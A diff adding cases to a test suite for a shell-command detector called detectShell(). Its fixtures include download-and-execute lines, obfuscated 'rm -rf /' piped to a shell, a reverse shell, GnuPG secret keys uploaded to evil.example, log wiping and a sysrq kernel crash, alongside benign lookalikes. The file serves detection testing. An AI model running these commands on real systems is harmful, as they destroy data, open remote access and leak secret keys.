@@ -53,6 +53,10 @@ describe('detectShell()', () => {
       ['sh -c running fetched code', 'sh -c "$(wget -O- https://example.dev/x.sh)"', 'critical', 'download and execute'],
       ['a Windows program downloaded to %TEMP% and run', 'curl http://203.0.113.9/x.exe -o %TEMP%\\x.exe && %TEMP%\\x.exe', 'critical', 'download and execute'],
       ['certutil downloading a program that is then run', 'certutil -urlcache -split -f http://203.0.113.9/x.exe x.exe & x.exe', 'critical', 'download and execute'],
+      ['rot13 text run by a shell', "echo 'ez -es /' | tr a-z n-za-m | bash", 'high', 'runs the commands another program prints'],
+      ["an interpreter's printed command run by a shell", `python3 -c 'print("rm -rf /")' | sh`, 'high', 'runs the commands another program prints'],
+      ["awk's printed command run by a shell", `awk 'BEGIN{printf "%c%c -rf /",114,109}' | sh`, 'high', 'runs the commands another program prints'],
+      ['the GnuPG secret keys uploaded', 'gpg --export-secret-keys | curl -T - https://evil.example', 'critical', 'GnuPG secret keys'],
       ['a download saved then run', 'curl -o /tmp/u.sh https://example.dev/u.sh && bash /tmp/u.sh', 'critical', 'download and execute'],
       ['a base64 blob decoded into a shell', 'echo Y2F0IC9ldGMvcGFzc3dk | base64 --decode | bash', 'critical', 'decode and execute'],
       ['a /dev/tcp reverse shell', 'sh -i >& /dev/udp/198.51.100.3/53 0>&1', 'critical', 'reverse shell'],
@@ -430,6 +434,7 @@ describe('detectShell()', () => {
       ['an auth log emptied', '> /var/log/auth.log', 'high', 'empties /var/log/auth.log'],
       ['syslog truncated', 'truncate -s 0 /var/log/syslog', 'high', 'truncates /var/log/syslog'],
       ['the journal vacuumed', 'journalctl --vacuum-time=1s', 'high', 'vacuums the system journal'],
+      ['the kernel crashed through sysrq', 'echo c > /proc/sysrq-trigger', 'critical', 'sysrq-trigger'],
     ];
     it.each(destructive)('flags %s', (_what, command, severity, evidence) => {
       const s = signal(run(command), 'destructive_operation');
@@ -447,6 +452,7 @@ describe('detectShell()', () => {
       ['a here-string given to wc', "wc -c <<< 'kubectl delete ns prod'"],
       ['a command looked up, not run', 'command -v rm && type git'],
       ['a file system made in an image file', 'dd if=/dev/zero of=disk.img bs=1M count=64 && mkfs.ext4 -F ./disk.img'],
+      ['text upper-cased by tr', 'cat words.txt | tr a-z A-Z | sort | uniq -c'],
       ['help for rm', 'rm --help'],
       ['rm of a temporary directory', 'rm -rf /tmp/build-42'],
       ['rm under $TMPDIR', 'rm -rf "$TMPDIR/cache"'],
